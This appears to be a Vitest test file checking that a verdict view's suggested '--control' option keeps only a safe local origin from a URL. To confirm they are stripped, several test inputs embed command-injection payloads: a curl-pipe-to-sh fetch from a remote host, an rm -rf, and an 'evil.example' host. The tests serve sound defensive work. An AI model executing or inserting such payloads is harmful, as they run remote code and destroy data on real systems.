import { describe, expect, it } from 'vitest';
import { controlOption } from '../src/ui/verdict-view';

describe('the --control of the analyze command the verdict view suggests', () => {
  it('names a stack other than the default by its origin only', () => {
    expect(controlOption(null)).toBe('');
    expect(controlOption('http://127.0.0.1:8090')).toBe('');
    expect(controlOption('http://127.0.0.1:48090')).toBe(' --control http://127.0.0.1:48090');
    expect(controlOption('http://localhost:48090/')).toBe(' --control http://localhost:48090');
  });

  it('never copies a link’s path or a host the CLI would refuse into the command', () => {
    expect(controlOption('http://127.0.0.1:8090/x;curl$IFS-sL$IFS//e.tld|sh')).toBe('');
    expect(controlOption('http://127.0.0.1:48090/x;rm$IFS-rf|sh')).toBe(' --control http://127.0.0.1:48090');
    expect(controlOption('http://evil.example:8090')).toBe('');
    expect(controlOption('https://127.0.0.1:8090')).toBe('');
    expect(controlOption('not a url')).toBe('');
  });
});
